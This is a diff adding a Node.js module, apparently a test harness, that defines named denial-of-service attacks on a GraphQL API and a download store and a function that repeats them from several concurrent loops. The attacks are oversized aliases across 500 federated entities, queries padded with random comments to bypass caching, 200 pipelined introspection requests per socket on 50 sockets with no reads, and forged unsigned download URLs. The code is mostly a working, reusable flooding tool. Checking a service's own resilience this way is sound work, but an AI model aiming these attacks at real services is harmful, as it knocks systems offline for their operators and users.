@@ -1,0 +1,72 @@
+import { randomBytes } from 'node:crypto';
+import { connect } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+
+/** Milliseconds between two requests of one attacker. */
+const PAUSE_MS = 50;
+const SOCKETS = 50;
+const PIPELINED = 200;
+
+/** What somebody without rights can send, by name; each is sent again and again. */
+export const ATTACKS = {
+  'one long alias over 500 entities': ({ graphql }) =>
+    post(graphql, {
+      query: `query ($r: [_Any!]!) { _entities(representations: $r) { ... on Backup { ${'a'.repeat(400_000)}: id } } }`,
+      variables: { r: Array(500).fill({ __typename: 'Backup', id: 'x' }) },
+    }),
+  'documents that differ by a long comment': ({ graphql }) =>
+    post(graphql, { query: `#${randomBytes(30_000).toString('hex')}\n{ __typename }` }),
+  'pipelined requests, none of them read': ({ graphql }) =>
+    Promise.all(Array.from({ length: SOCKETS }, () => flood(graphql))),
+  'downloads that nobody signed': ({ store }) =>
+    fetch(`${store}/download/cn-north-1/a/b/${'n'.repeat(200)}?Expires=9999999999&Signature=0`),
+};
+
+/**
+ * Sends one of these from several places at once, until it is stopped.
+ * @param targets addresses: `graphql` of the product, `store` of the downloads
+ */
+export function startAttack(attack, targets, { attackers = 2 } = {}) {
+  let isRunning = true;
+  let sent = 0;
+  const run = async () => {
+    while (isRunning) {
+      await attack(targets)
+        .then((response) => response?.body?.cancel())
+        .catch(() => undefined);
+      sent += 1;
+      await sleep(PAUSE_MS);
+    }
+  };
+  const done = Promise.all(Array.from({ length: attackers }, run));
+  return {
+    /** Resolves to how many times it was sent. */
+    stop: async () => {
+      isRunning = false;
+      await done;
+      return sent;
+    },
+  };
+}
+
+function post(url, body) {
+  const headers = { 'content-type': 'application/json' };
+  return fetch(url, { method: 'POST', headers, body: JSON.stringify(body) });
+}
+
+/** Sends all at once, never reads, and leaves after a second where it was not cut off before. */
+function flood(url) {
+  const { hostname, port, pathname, host } = new URL(url);
+  const body = '{"query":"{ __schema { types { name fields { name } } } }"}';
+  const request = `POST ${pathname} HTTP/1.1\r\nhost: ${host}\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`;
+  return new Promise((resolve) => {
+    const socket = connect(Number(port), hostname, () => socket.write(request.repeat(PIPELINED)));
+    const timer = setTimeout(() => socket.destroy(), 1000);
+    socket.pause();
+    socket.on('error', () => undefined);
+    socket.on('close', () => {
+      clearTimeout(timer);
+      resolve();
+    });
+  });
+}
